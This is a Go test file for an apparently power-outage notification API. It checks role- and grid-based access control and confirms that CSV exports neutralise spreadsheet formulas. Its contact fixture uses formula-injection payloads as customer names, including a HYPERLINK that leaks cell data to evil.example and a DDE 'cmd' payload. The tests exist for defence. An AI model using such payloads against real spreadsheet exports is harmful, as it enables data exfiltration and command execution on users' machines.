package httpapi_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/rs/zerolog"

	"github.com/gridbell/gridbell/contacts"
	"github.com/gridbell/gridbell/ingest"
	"github.com/gridbell/gridbell/internal/clock"
	"github.com/gridbell/gridbell/internal/event"
	"github.com/gridbell/gridbell/internal/httpapi"
	"github.com/gridbell/gridbell/internal/secret"
	"github.com/gridbell/gridbell/internal/store/storetest"
	"github.com/gridbell/gridbell/notify"
	"github.com/gridbell/gridbell/rules"
)

// Grid G01 has accounts 1 and 3, G02 accounts 2, 4 and 5. Names are the
// formula payloads a spreadsheet must never run.
const matrixContacts = `account,name,meter,area,grid,manager,phone
0100000001,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",330000000001,TA-1,G01,Wang,13812345601
0100000003,@SUM(1+1),330000000003,TA-1,G01,Wang,13812345603
0100000002,"+cmd|' /C calc'!A0",330000000002,TA-2,G02,Sun,13812345602
0100000004,"-2+3",330000000004,TA-2,G02,Sun,13812345604
0100000005,Zhao,330000000005,TA-3,G02,Sun,13812345605
`

// g02 is what a G01 manager must never read: G02's accounts, meters and area.
var g02 = []string{"0100000002", "0100000004", "0100000005", "330000000002", "330000000004", "330000000005", "TA-2", "TA-3", "+cmd", "-2+3", "Zhao", "Sun"}

var tokens = map[string]string{
	"admin": "admin-token-0123456789", "dispatcher": "dispatcher-token-0123456789",
	"mgr-G01": "manager-g01-token-0123456789", "mgr-G02": "manager-g02-token-0123456789",
	"mgr-G03": "manager-g03-token-0123456789", "ingest": "ingest-token-0123456789",
	"hotline": "hotline-token-0123456789",
	"unknown": "no-such-token-0123456789", "none": "",
}

// matrixWorld is a real rules engine and outbox behind the API, with outage
// OMS-A over both grids (account 2 has power back and replied it is still
// out) and OMS-B over G02 alone.
func matrixWorld(t *testing.T) string {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	db := storetest.Open(t, "sqlite")
	log := zerolog.Nop()
	reg, err := contacts.Open(ctx, db, log)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := reg.Import(ctx, strings.NewReader(matrixContacts), nil); err != nil {
		t.Fatal(err)
	}
	var scfg notify.Config
	scfg.Defaults()
	dir := t.TempDir()
	sender, err := notify.NewSender(scfg, dir, log)
	if err != nil {
		t.Fatal(err)
	}
	ob, err := notify.NewOutbox(scfg, notify.QuietHours{}, db, reg, sender, clock.Real{}, log)
	if err != nil {
		t.Fatal(err)
	}
	var rcfg rules.Config
	rcfg.Defaults()
	eng, err := rules.New(rcfg, db, reg, ob, clock.Real{}, log)
	if err != nil {
		t.Fatal(err)
	}
	dead, err := ingest.OpenDeadLetters(ctx, db, ingest.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{}, 2)
	go func() { eng.Run(ctx); done <- struct{}{} }()
	go func() { ob.Run(ctx); done <- struct{}{} }()
	t.Cleanup(func() { cancel(); <-done; <-done })

	now := time.Now()
	start := now.Add(-10 * time.Minute)
	for _, o := range []event.OMSOutage{
		{OutageID: "OMS-A", Kind: "fault", Status: "started", Areas: []string{"TA-1", "TA-2"}, Start: &start, UpdatedAt: now},
		{OutageID: "OMS-B", Kind: "fault", Status: "started", Areas: []string{"TA-3"}, Start: &start, UpdatedAt: now},
	} {
		if err := eng.Handle(ctx, []event.Event{{Outage: &o, Source: "http", Received: now}}); err != nil {
			t.Fatal(err)
		}
	}
	back := event.MeterEvent{Meter: "330000000002", TS: now.Add(-time.Minute), Type: event.PowerOn}
	if err := eng.Handle(ctx, []event.Event{{Meter: &back, Source: "mqtt", Received: now}}); err != nil {
		t.Fatal(err)
	}
	if err := eng.ReportStillOut(ctx, "+8613812345602", []string{"0100000002"}); err != nil {
		t.Fatal(err)
	}

	auth := httpapi.AuthConfig{Tokens: []httpapi.Token{
		{Token: secret.String(tokens["admin"]), Role: httpapi.RoleAdmin},
		{Token: secret.String(tokens["dispatcher"]), Role: httpapi.RoleDispatcher},
		{Token: secret.String(tokens["mgr-G01"]), Role: httpapi.RoleManager, Grids: []string{"G01"}},
		{Token: secret.String(tokens["mgr-G02"]), Role: httpapi.RoleManager, Grids: []string{"G02"}},
		{Token: secret.String(tokens["mgr-G03"]), Role: httpapi.RoleManager, Grids: []string{"G03"}},
		{Token: secret.String(tokens["ingest"]), Role: httpapi.RoleIngest},
		{Token: secret.String(tokens["hotline"]), Role: httpapi.RoleHotline},
	}}
	accept := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusAccepted) })
	srv := httptest.NewServer(httpapi.New(httpapi.Config{}, auth, httpapi.Deps{
		Outages: eng, Deliveries: ob, Quality: reg, Contacts: reg, ContactsDir: dir,
		OMSEvents: accept, Billing: accept, DeadLetters: dead, Handler: eng,
		Directory: reg, History: ob, Overview: eng,
	}, log).Handler())
	t.Cleanup(srv.Close)
	return srv.URL
}

// call makes one request as who and returns the status and body.
func call(t *testing.T, base, who, method, path, body string) (int, string) {
	t.Helper()
	req, _ := http.NewRequest(method, base+path, strings.NewReader(body))
	if tok := tokens[who]; tok != "" {
		req.Header.Set("Authorization", "Bearer "+tok)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("%s %s as %s: no nosniff", method, path, who)
	}
	if strings.HasPrefix(path, "/api/") && resp.Header.Get("Cache-Control") != "no-store" {
		t.Errorf("%s %s as %s: Cache-Control %q, want no-store", method, path, who, resp.Header.Get("Cache-Control"))
	}
	return resp.StatusCode, string(b)
}

var roles = []string{"none", "unknown", "admin", "dispatcher", "mgr-G01", "mgr-G02", "mgr-G03", "ingest", "hotline"}

// codes is a route's answer per role: 401 without a known token, 403 for
// roles not in may, ok for the others, with per-role exceptions.
func codes(ok int, may []string, except map[string]int) map[string]int {
	m := map[string]int{"none": 401, "unknown": 401}
	for _, r := range roles[2:] {
		m[r] = 403
		if slices.Contains(may, r) || (strings.HasPrefix(r, "mgr-") && slices.Contains(may, "manager")) {
			m[r] = ok
		}
	}
	for r, c := range except {
		m[r] = c
	}
	return m
}

func TestRoleRouteGridMatrix(t *testing.T) {
	base := matrixWorld(t)
	read := []string{"admin", "dispatcher", "manager"}
	lookup := []string{"admin", "dispatcher", "manager", "hotline"}
	open := map[string]int{}
	for _, r := range roles {
		open[r] = 200
	}
	noA := map[string]int{"mgr-G03": 404}                 // OMS-A holds G01 and G02 customers
	noB := map[string]int{"mgr-G01": 404, "mgr-G03": 404} // OMS-B holds a G02 customer alone
	cases := []struct {
		method, path, body string
		want               map[string]int
	}{
		{"GET", "/healthz", "", open},
		{"GET", "/readyz", "", open},
		{"GET", "/metrics", "", open},
		{"GET", "/", "", open},
		{"GET", "/api/v1/outages", "", codes(200, read, nil)},
		{"GET", "/api/v1/outages?status=active", "", codes(200, read, nil)},
		{"GET", "/api/v1/outages/OMS-A", "", codes(200, read, noA)},
		{"GET", "/api/v1/outages/OMS-B", "", codes(200, read, noB)},
		{"GET", "/api/v1/outages/NOPE", "", codes(404, read, nil)},
		{"GET", "/api/v1/outages/OMS-A/customers", "", codes(200, read, noA)},
		{"GET", "/api/v1/outages/OMS-A/customers?format=csv", "", codes(200, read, noA)},
		{"GET", "/api/v1/outages/OMS-A/customers?grid=G02", "", codes(200, read, map[string]int{"mgr-G01": 403, "mgr-G03": 404})},
		{"GET", "/api/v1/outages/OMS-B/customers?format=csv", "", codes(200, read, noB)},
		{"GET", "/api/v1/outages/OMS-A/verification", "", codes(200, read, noA)},
		{"GET", "/api/v1/outages/OMS-B/verification", "", codes(200, read, noB)},
		{"POST", "/api/v1/outages/NOPE/confirm", `{"reason":"test"}`, codes(404, []string{"admin", "dispatcher"}, nil)},
		{"GET", "/api/v1/contacts/quality", "", codes(200, read, nil)},
		{"GET", "/api/v1/contacts/quality?grid=G02", "", codes(200, read, map[string]int{"mgr-G01": 403, "mgr-G03": 403})},
		{"POST", "/api/v1/contacts/import", matrixContacts, codes(200, []string{"admin"}, nil)},
		{"POST", "/api/v1/oms/events", "{}", codes(202, []string{"admin", "ingest"}, nil)},
		{"POST", "/api/v1/billing/events", "{}", codes(202, []string{"admin", "ingest"}, nil)},
		{"GET", "/api/v1/deadletters", "", codes(200, []string{"admin"}, nil)},
		// The 95598 hotline: a manager finds its own grids' customers, with
		// the outage cut to its grids (issue 21).
		{"GET", "/api/v1/hotline?q=0100000001", "", codes(200, lookup, map[string]int{"mgr-G02": 404, "mgr-G03": 404})},
		{"GET", "/api/v1/hotline?q=13812345601", "", codes(200, lookup, map[string]int{"mgr-G02": 404, "mgr-G03": 404})},
		{"GET", "/api/v1/hotline?q=0100000002", "", codes(200, lookup, map[string]int{"mgr-G01": 404, "mgr-G03": 404})},
		{"GET", "/api/v1/hotline?q=0100000099", "", codes(404, lookup, nil)},
		{"GET", "/api/v1/outages/OMS-A/workspace", "", codes(200, read, noA)},
		{"GET", "/api/v1/outages/OMS-B/workspace", "", codes(200, read, noB)},
		{"GET", "/api/v1/storm", "", codes(200, read, nil)},
		{"GET", "/api/v1/me", "", codes(200, []string{"admin", "dispatcher", "manager", "ingest", "hotline"}, nil)},
		{"GET", "/api/v1/accounts/0100000001/messages", "", codes(200, lookup, map[string]int{"mgr-G02": 404, "mgr-G03": 404})},
		{"GET", "/api/v1/accounts/0100000002/messages", "", codes(200, lookup, map[string]int{"mgr-G01": 404, "mgr-G03": 404})},
		{"POST", "/api/v1/deadletters/replay", `{"ids":[]}`, codes(200, []string{"admin"}, nil)},
	}
	for _, c := range cases {
		for _, who := range roles {
			code, body := call(t, base, who, c.method, c.path, c.body)
			if code != c.want[who] {
				t.Errorf("%s %s as %s = %d, want %d (%.100s)", c.method, c.path, who, code, c.want[who], body)
			}
			if who == "mgr-G01" && code == 200 {
				for _, s := range g02 {
					if strings.Contains(body, s) {
						t.Errorf("%s %s as the G01 manager shows G02's %q: %.300s", c.method, c.path, s, body)
					}
				}
			}
		}
	}
}

// TestHotlineScope (issue 21): the G01 manager looking a G01 customer up
// gets the outage with G01's area and counts alone, as the outage route
// gives it; "not found" reads the same for a G02 customer as for none.
func TestHotlineScope(t *testing.T) {
	base := matrixWorld(t)
	var ans struct {
		Customers []struct{ Outage *rules.Outage }
	}
	get(t, base, "mgr-G01", "/api/v1/hotline?q=0100000001", &ans)
	var mine rules.Outage
	get(t, base, "mgr-G01", "/api/v1/outages/OMS-A", &mine)
	if len(ans.Customers) != 1 || ans.Customers[0].Outage == nil {
		t.Fatalf("G01 manager's lookup = %+v, want one customer in OMS-A", ans)
	}
	if o := ans.Customers[0].Outage; !slices.Equal(o.Areas, []string{"TA-1"}) || o.Counts.Affected != mine.Counts.Affected || o.Counts.Affected != 2 {
		t.Errorf("G01 manager's hotline outage = areas %v counts %+v, want TA-1 and 2 affected as GET /outages/OMS-A gives", o.Areas, o.Counts)
	}
	get(t, base, "admin", "/api/v1/hotline?q=0100000001", &ans)
	if o := ans.Customers[0].Outage; o == nil || len(o.Areas) != 2 || o.Counts.Affected != 4 {
		t.Errorf("admin's hotline outage = %+v, want both areas and 4 affected", o)
	}
	_, other := call(t, base, "mgr-G01", "GET", "/api/v1/hotline?q=0100000002", "")
	_, none := call(t, base, "mgr-G01", "GET", "/api/v1/hotline?q=0100000099", "")
	if other != none {
		t.Errorf("not found differs: another grid's customer %s, no customer %s", other, none)
	}
	_, other = call(t, base, "mgr-G01", "GET", "/api/v1/hotline?q=13812345602", "")
	_, none = call(t, base, "mgr-G01", "GET", "/api/v1/hotline?q=13812345699", "")
	if other != none {
		t.Errorf("not found by phone differs: another grid's customer %s, no customer %s", other, none)
	}
}

// The answers a manager gets hold its own grids' customers, meters and
// counts, and nothing else.
func TestManagerScopedContents(t *testing.T) {
	base := matrixWorld(t)
	var list struct{ Outages []rules.Outage }
	get(t, base, "admin", "/api/v1/outages", &list)
	if len(list.Outages) != 2 {
		t.Fatalf("admin sees %d outages, want 2", len(list.Outages))
	}
	get(t, base, "mgr-G01", "/api/v1/outages", &list)
	if len(list.Outages) != 1 || list.Outages[0].ID != "OMS-A" {
		t.Fatalf("G01 manager sees %+v, want OMS-A alone", list.Outages)
	}
	if o := list.Outages[0]; o.Counts.Affected != 2 || o.Counts.Dark != 2 || !slices.Equal(o.Areas, []string{"TA-1"}) {
		t.Errorf("G01 manager's OMS-A = counts %+v areas %v, want 2 affected, 2 dark, TA-1", o.Counts, o.Areas)
	}
	var all rules.Outage
	get(t, base, "admin", "/api/v1/outages/OMS-A", &all)
	if all.Counts.Affected != 4 {
		t.Errorf("admin's OMS-A affected = %d, want 4", all.Counts.Affected)
	}

	// Counts that come from notify are cut too, once the outbox has sent.
	deadline := time.Now().Add(patience)
	for all.Counts.Notified < 3 && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
		get(t, base, "admin", "/api/v1/outages/OMS-A", &all)
	}
	var mine rules.Outage
	get(t, base, "mgr-G01", "/api/v1/outages/OMS-A", &mine)
	if all.Counts.Notified < 3 || mine.Counts.Notified != 2 {
		t.Errorf("notified: admin %d (want 3 or 4), G01 manager %d (want 2)", all.Counts.Notified, mine.Counts.Notified)
	}

	var v rules.Verification
	get(t, base, "admin", "/api/v1/outages/OMS-A/verification", &v)
	if !slices.Contains(v.ReportedOut, "0100000002") {
		t.Fatalf("admin's verification reported_out = %v, want 0100000002", v.ReportedOut)
	}
	get(t, base, "mgr-G01", "/api/v1/outages/OMS-A/verification", &v)
	var dark []string
	for _, d := range v.Dark {
		dark = append(dark, d.Account)
	}
	slices.Sort(dark)
	if !slices.Equal(dark, []string{"0100000001", "0100000003"}) || len(v.ReportedOut) != 0 || len(v.Unknown) != 0 {
		t.Errorf("G01 manager's verification = %+v, want G01's two dark meters alone", v)
	}
}

func get(t *testing.T, base, who, path string, v any) {
	t.Helper()
	code, body := call(t, base, who, "GET", path, "")
	if code != 200 {
		t.Fatalf("GET %s as %s = %d %s", path, who, code, body)
	}
	if err := json.Unmarshal([]byte(body), v); err != nil {
		t.Fatalf("GET %s as %s: %v", path, who, err)
	}
}

// CSV answers start with a BOM, and no cell begins with what a
// spreadsheet runs (docs/interfaces.md §6).
func TestCustomersCSVIsSafeForSpreadsheets(t *testing.T) {
	base := matrixWorld(t)
	code, body := call(t, base, "admin", "GET", "/api/v1/outages/OMS-A/customers?format=csv", "")
	if code != 200 || !strings.HasPrefix(body, "\xEF\xBB\xBF") {
		t.Fatalf("csv = %d, starts %q; want 200 and a BOM", code, body[:min(len(body), 8)])
	}
	recs, err := csv.NewReader(bytes.NewReader([]byte(body[3:]))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]string{}
	for _, rec := range recs[1:] {
		names[rec[0]] = rec[1]
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q of %v begins with a formula character", cell, rec)
			}
		}
		if !strings.HasPrefix(rec[6], "'+86") {
			t.Errorf("phones cell %q, want it neutralised as '+86…", rec[6])
		}
	}
	want := map[string]string{
		"0100000001": `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"0100000003": "'@SUM(1+1)",
		"0100000002": "'+cmd|' /C calc'!A0",
		"0100000004": "'-2+3",
	}
	for acct, name := range want {
		if names[acct] != name {
			t.Errorf("name of %s = %q, want %q", acct, names[acct], name)
		}
	}
}
